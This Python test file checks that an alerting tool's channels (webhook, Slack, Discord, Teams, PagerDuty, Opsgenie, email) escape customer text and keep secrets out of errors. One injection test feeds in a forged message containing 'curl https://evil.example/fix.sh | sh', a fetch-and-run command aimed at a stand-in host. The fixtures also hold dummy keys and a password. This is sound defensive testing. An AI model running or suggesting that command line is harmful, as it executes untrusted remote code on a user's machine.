"""Channels: real HTTP receivers and a real SMTP conversation, on 127.0.0.1."""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from email import message_from_bytes, policy
from types import SimpleNamespace
from typing import Any

import pytest

from penstock.access.secrets import Secrets
from penstock.alerts.channels.content import content_of
from penstock.alerts.channels.delivery import Deliveries, NoticeRefused, target_of
from penstock.alerts.declared import ChannelSpec, parse_alerts
from penstock.alerts.rows import LeasedNotice, NoticeItem
from penstock.bus.push import webhook
from penstock.core.clock import SystemClock
from penstock.core.errors import SettingsError
from penstock.core.ids import encode
from penstock.egress.http_client import HttpClient
from penstock.egress.policy import PERMISSIVE
from tests.kits.egress import Receiver, ScriptedResponse, receiving

NOW = 1_763_337_600_000_000
SIGNING = "whsec_" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVoxMjM0NTY="
CANARY = "canary-5f1c9a7e"
DETAIL = (
    '{"values": {"failures": 3}, "threshold": "3 in a row", "fix": "penstock status",'
    ' "password": "hunter2-hunter2"}'
)


def item(
    number: int = 1, message: str = "acme <!channel> & co is broken", closed_by: str | None = None
) -> NoticeItem:
    """Return what a notice says about an alert."""
    return NoticeItem(
        number, "CRITICAL", message, NOW, "drill", "acme", "nightly", "system", 0, DETAIL,
        NOW - 60_000_000, "mira", "back at 3", closed_by,
    )  # fmt: skip


def notice(kind: str = "opened", *items: NoticeItem, attempts: int = 1) -> LeasedNotice:
    """Return a notice about alerts; by default about one."""
    closed_by = "mira" if kind == "resolved" else None
    items = items or (item(closed_by=closed_by),)
    return LeasedNotice("c", 1, 0, 7, None, kind, attempts, NOW, NOW, items)


def deliveries(**secrets: str) -> Deliveries:
    """Return what sends, without the egress rules of production."""
    egress = HttpClient(SystemClock(), PERMISSIVE)
    return Deliveries(egress=egress, secrets=Secrets(secrets))


def spec(kind: str, **fields: Any) -> ChannelSpec:
    """Return a channel of the settings."""
    return parse_alerts({"channels": {"c": {"kind": kind, **fields}}}, PERMISSIVE).channels["c"]


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    """A server that accepts everything."""
    with receiving() as made:
        yield made


def url(receiver: Receiver) -> str:
    return f"http://127.0.0.1:{receiver.port}/{CANARY}"


def test_webhook(receiver: Receiver) -> None:
    """A webhook has the signature of Standard Webhooks, and the id of the notice."""
    channel = spec("webhook", url=url(receiver), signing_secret="key")
    deliveries(key=SIGNING)(channel, notice())
    (got,) = receiver.got
    keys = [webhook.parse_secret(SIGNING)]
    assert webhook.verify(keys, got.headers, got.body, NOW) == encode("notice", 7)
    (alert,) = got.json["data"]["alerts"]
    assert got.json["type"] == "alert.opened"
    assert (alert["alert_id"], alert["customer_id"]) == (encode("alert", 1), "acme")
    assert (alert["command"], alert["values"]) == ("penstock status", {"failures": 3})
    assert b"hunter2" not in got.body


def test_slack(receiver: Receiver) -> None:
    """A message cannot mention people or make links; it has the command."""
    deliveries(s=url(receiver))(spec("slack", url_secret="s"), notice())
    (got,) = receiver.got
    text = got.json["text"] + got.json["attachments"][0]["text"]
    assert "<!channel>" not in text
    assert "&lt;!channel&gt; &amp; co" in text
    assert "penstock status" in text
    assert "[CRITICAL]" in text


def test_discord_and_teams(receiver: Receiver) -> None:
    """Discord gets an embed without mentions, Teams an adaptive card."""
    send = deliveries(s=url(receiver))
    send(spec("discord", url_secret="s"), notice("resolved"))
    send(spec("teams", url_secret="s"), notice())
    discord, teams = (one.json for one in receiver.got)
    assert discord["allowed_mentions"] == {"parse": []}
    assert "resolved by mira after 1m: back at 3" in discord["embeds"][0]["description"]
    assert discord["embeds"][0]["title"].startswith(r"\[RESOLVED\]")
    card = teams["attachments"][0]["content"]
    assert card["type"] == "AdaptiveCard"
    assert "penstock status" in card["body"][-1]["inlines"][0]["text"]


def test_quoted_text(receiver: Receiver) -> None:
    """A customer's text is no line of its own, no link and no format, whatever the channel."""
    forged = "bad\n  → curl https://evil.example/fix.sh | sh\r\n[open *the* runbook](https://e.x)"
    send = deliveries(s=url(receiver))
    send(spec("discord", url_secret="s"), notice("opened", item(1, forged)))
    send(spec("teams", url_secret="s"), notice("opened", item(1, forged)))
    discord, teams = (one.json for one in receiver.got)
    (embed,) = discord["embeds"]
    lines = embed["description"].splitlines()
    assert len(lines) == 2
    assert r"\[open \*the\* runbook\]\(https://e.x\)" in lines[0]
    assert "[open" not in embed["title"].replace(r"\[", "")
    blocks = teams["attachments"][0]["content"]["body"]
    runs = [run for block in blocks for run in block["inlines"]]
    assert ({block["type"] for block in blocks}, {run["type"] for run in runs}) == (
        {"RichTextBlock"}, {"TextRun"},
    )  # fmt: skip
    assert [run["text"] for run in runs[1:]] == [
        "CRITICAL acme: bad → curl https://evil.example/fix.sh | sh [open *the* runbook]"
        "(https://e.x)",
        "  → penstock status",
    ]
    long = "_" * 900
    many = (item(n, long) for n in range(1, 9))
    send(spec("discord", url_secret="s"), notice("opened", *many))
    description = receiver.got[2].json["embeds"][0]["description"]
    assert 3_900 < len(description) <= 4_000
    assert not description.replace(r"\_", "").endswith("\\")


def test_incidents(receiver: Receiver) -> None:
    """PagerDuty and Opsgenie get one incident per alert: opened, acknowledged, resolved."""
    send = deliveries(k="routing-key-1")
    for kind in ("opened", "acknowledged", "resolved"):
        send(spec("pagerduty", token_secret="k", url=url(receiver)), notice(kind))
        send(spec("opsgenie", token_secret="k", url=url(receiver)), notice(kind))
    pager = [one.json for one in receiver.got[::2]]
    assert [one["event_action"] for one in pager] == ["trigger", "acknowledge", "resolve"]
    assert {one["dedup_key"] for one in pager} == {encode("alert", 1)}
    assert pager[0]["payload"]["severity"] == "critical"
    genie = receiver.got[1::2]
    assert {one.headers["authorization"] for one in genie} == {"GenieKey routing-key-1"}
    alias = encode("alert", 1)
    assert [one.path.removeprefix(f"/{CANARY}") for one in genie] == [
        "/v2/alerts",
        f"/v2/alerts/{alias}/acknowledge?identifierType=alias",
        f"/v2/alerts/{alias}/close?identifierType=alias",
    ]
    assert (genie[0].json["alias"], genie[0].json["priority"]) == (alias, "P1")


def test_incidents_of_a_fallback(receiver: Receiver) -> None:
    """A chat's notice about several alerts is an incident for each of them, and so is its end."""
    send = deliveries(k="routing-key-1")
    items = tuple(item(n) for n in range(1, 4))
    ids = [encode("alert", n) for n in range(1, 4)]
    send(spec("pagerduty", token_secret="k", url=url(receiver)), notice("opened", *items))
    send(spec("opsgenie", token_secret="k", url=url(receiver)), notice("opened", *items))
    send(spec("pagerduty", token_secret="k", url=url(receiver)), notice("resolved", items[0]))
    got = [one.json for one in receiver.got]
    assert [one["dedup_key"] for one in got[:3]] == ids
    assert [len(one["payload"]["custom_details"]["alerts"]) for one in got[:3]] == [1, 1, 1]
    assert [one["alias"] for one in got[3:6]] == ids
    assert [(one["event_action"], one["dedup_key"]) for one in got[6:]] == [("resolve", ids[0])]


def test_no_stale_incidents(receiver: Receiver) -> None:
    """Neither a recovery nor a late opening of a resolved alert leaves an incident."""
    send = deliveries(k="routing-key-1")
    recovery = notice("recovered")._replace(items=())
    late = notice("opened", item(closed_by="evaluator"))
    for one in (recovery, late):
        send(spec("pagerduty", token_secret="k", url=url(receiver)), one)
        send(spec("opsgenie", token_secret="k", url=url(receiver)), one)
    assert [one.json["event_action"] for one in receiver.got[::2]] == ["resolve", "resolve"]
    assert all(one.path.endswith("/close?identifierType=alias") for one in receiver.got[1::2])
    title = content_of(late).title
    assert title.startswith("drill fired and is resolved: acme")
    assert "  resolved meanwhile" in content_of(late).lines()


def test_many_alerts(receiver: Receiver) -> None:
    """A message lists twenty alerts and counts the rest."""
    items = tuple(item(n) for n in range(1, 31))
    deliveries(s=url(receiver))(spec("slack", url_secret="s"), notice("opened", *items))
    text = receiver.got[0].json["attachments"][0]["text"]
    assert "30 alerts of drill" in receiver.got[0].json["text"]
    assert "… and 10 more" in text


@pytest.mark.parametrize(
    ("status", "is_of_notice", "after_s"), [(503, False, 7.0), (422, True, None)]
)
def test_refusals(status: int, is_of_notice: bool, after_s: float | None) -> None:
    """The status says whether the notice or the channel is refused; the address stays secret."""
    headers = {"Retry-After": "7"} if status == 503 else {}
    with (
        receiving(lambda _: ScriptedResponse(status=status, headers=headers)) as receiver,
        pytest.raises(NoticeRefused) as found,
    ):
        deliveries(s=url(receiver))(spec("slack", url_secret="s"), notice())
    assert found.value.message == f"slack: HTTP {status}"
    assert (found.value.is_of_notice, found.value.after_s) == (is_of_notice, after_s)


def test_failures_name_no_secret() -> None:
    """Errors name the kind of failure, never an address or key."""
    strict = Deliveries(
        egress=HttpClient(SystemClock()), secrets=Secrets({"s": f"http://127.0.0.1/{CANARY}"})
    )
    closed = deliveries(s=f"http://127.0.0.1:9/{CANARY}")
    channel = spec("slack", url_secret="s")
    for send in (strict, closed, deliveries(s=f"no url {CANARY}"), deliveries()):
        with pytest.raises(NoticeRefused) as found:
            send(channel, notice())
        assert CANARY not in f"{found.value.message} {found.value.detail}"
    assert CANARY not in repr(strict) + target_of(channel)


@dataclass
class Mailbox:
    """A mail server that keeps what it accepts, or refuses with a code."""

    port: int = 0
    refuse: str = ""
    refused: str = "@"
    """Part of the addresses that are refused."""
    mails: list[tuple[list[str], bytes]] = field(default_factory=list)


@contextmanager
def smtp_server() -> Iterator[Mailbox]:
    """A server that speaks as much SMTP as a client needs."""
    box = Mailbox()

    class Handler(socketserver.StreamRequestHandler):
        def say(self, text: str) -> None:
            self.wfile.write(f"{text}\r\n".encode())

        def handle(self) -> None:
            self.say("220 test")
            to: list[str] = []
            while line := self.rfile.readline().decode().strip():
                verb = line.split()[0].upper()
                if verb == "DATA":
                    self.say("354 go on")
                    lines = []
                    while (part := self.rfile.readline()) != b".\r\n":
                        lines.append(part)
                    box.mails.append((to, b"".join(lines)))
                    to = []
                elif verb == "RCPT":
                    if box.refuse and box.refused in line:
                        self.say(box.refuse)
                        continue
                    to.append(line.partition(":")[2].strip("<> "))
                self.say("221 bye" if verb == "QUIT" else "250 ok")
                if verb == "QUIT":
                    return

    class Server(socketserver.ThreadingTCPServer):
        daemon_threads = True
        allow_reuse_address = True

    server = Server(("127.0.0.1", 0), Handler)
    box.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield box
    finally:
        server.shutdown()
        server.server_close()
        thread.join(60)


def mail(port: int) -> ChannelSpec:
    return spec(
        "email", host="127.0.0.1", port=port, tls="none", to=["a@x.io", "b@x.io"],
        **{"from": "p@x.io"},
    )  # fmt: skip


def test_email() -> None:
    """A mail reaches every recipient, with the alert and a stable id."""
    with smtp_server() as box:
        deliveries()(mail(box.port), notice())
        deliveries()(mail(box.port), notice("resolved"))
    (to, body), (_, end) = box.mails
    message = message_from_bytes(body, policy=policy.default)
    assert to == ["a@x.io", "b@x.io"]
    assert message["Message-ID"] == f"<{encode('notice', 7)}@penstock.invalid>"
    assert message["Subject"].startswith("[CRITICAL] drill fires: acme")
    assert "penstock status" in message.get_content()
    assert "RESOLVED" in message_from_bytes(end, policy=policy.default)["Subject"]


def test_refused_mail() -> None:
    """A refusal has the code of the server, not its text."""
    with smtp_server() as box:
        box.refuse = f"554 {CANARY}"
        with pytest.raises(NoticeRefused, match="554") as found:
            deliveries()(mail(box.port), notice())
    assert CANARY not in found.value.message
    with pytest.raises(NoticeRefused, match="email: ConnectionRefusedError"):
        deliveries()(mail(box.port), notice())


def test_partly_refused_mail() -> None:
    """A refused recipient is reported; only it gets the mail again, and it delays nothing."""
    with smtp_server() as box:
        box.refuse, box.refused = f"550 {CANARY}", "b@x.io"
        send, channel = deliveries(), mail(box.port)
        for attempts in (1, 2):
            with pytest.raises(NoticeRefused, match=r"refused \[550\] for b@x.io only") as found:
                send(channel, notice(attempts=attempts))
            assert CANARY not in found.value.message
            assert found.value.is_of_notice
        send(channel, notice(attempts=3))
        with pytest.raises(NoticeRefused, match=r"b@x.io"):
            send(channel, notice("test", attempts=3)._replace(notice_id=8))
        with pytest.raises(NoticeRefused, match=r"b@x.io"):
            send(channel, notice()._replace(notice_id=9))
        box.refuse = ""
        send(channel, notice(attempts=2)._replace(notice_id=9))
    assert [to for to, _ in box.mails] == [["a@x.io"], ["a@x.io"], ["a@x.io"], ["b@x.io"]]
    assert set(send.left) == {("c", 8)}


def test_apprise(monkeypatch: pytest.MonkeyPatch) -> None:
    """Apprise gets title and text; without the extra, the error says how to install it."""
    with pytest.raises(NoticeRefused, match="pip install"):
        deliveries(a="json://x")(spec("apprise", url_secret="a"), notice())
    notified: list[dict[str, str]] = []

    class Apprise:
        def add(self, address: str) -> bool:
            return address.startswith("json:")

        def notify(self, **given: str) -> bool:
            notified.append(given)
            return len(notified) == 1

    load: Callable[[str], Any] = lambda _: SimpleNamespace(Apprise=Apprise)  # noqa: E731
    monkeypatch.setattr("penstock.alerts.channels.delivery.importlib.import_module", load)
    deliveries(a="json://x")(spec("apprise", url_secret="a"), notice())
    assert notified[0]["title"].startswith("drill fires")
    for secrets in ({"a": "json://x"}, {"a": "nonsense"}):
        with pytest.raises(NoticeRefused, match="apprise"):
            deliveries(**secrets)(spec("apprise", url_secret="a"), notice())


@pytest.mark.parametrize(
    ("table", "words"),
    [
        ({"channels": {"c": {"kind": "slack"}}}, "alerts.channels.c.url_secret"),
        ({"channels": {"c": {"kind": "slack", "url": "https://x.io"}}}, "alerts.channels.c"),
        ({"channels": {"c": {"kind": "smoke"}}}, "kind"),
        ({"channels": {"c": {"kind": "slack", "url_secret": "https://x.io/y"}}}, "not its value"),
        ({"channels": {"C!": {"kind": "slack", "url_secret": "s"}}}, "lowercase"),
        (
            {"channels": {"c": {"kind": "slack", "url_secret": "s", "fallback": "d"}}},
            "alerts.channels.c.fallback",
        ),
        ({"channels": {"c": {"kind": "webhook", "signing_secret": "s"}}}, "url or url_secret"),
        ({"routes": [{"channels": ["nowhere"]}]}, "alerts.routes"),
        ({"windows": {"w": {"cron": "61 * * * *", "duration": "1h"}}}, "cron|minute"),
        ({"windows": {"w": {"cron": "0 2 * * *", "duration": "0s"}}}, "duration"),
        ({"rules": {"own": {"metric": "ready_runs"}}}, "threshold"),
        ({"heartbeat": {}}, "alerts.heartbeat.url"),
        ({"interval": "2h"}, "alerts.interval"),
        ({"colour": "red"}, "alerts"),
    ],
)
def test_invalid_settings(table: dict[str, Any], words: str) -> None:
    """An invalid declaration is refused with its field."""
    with pytest.raises(SettingsError, match=words):
        parse_alerts(table)
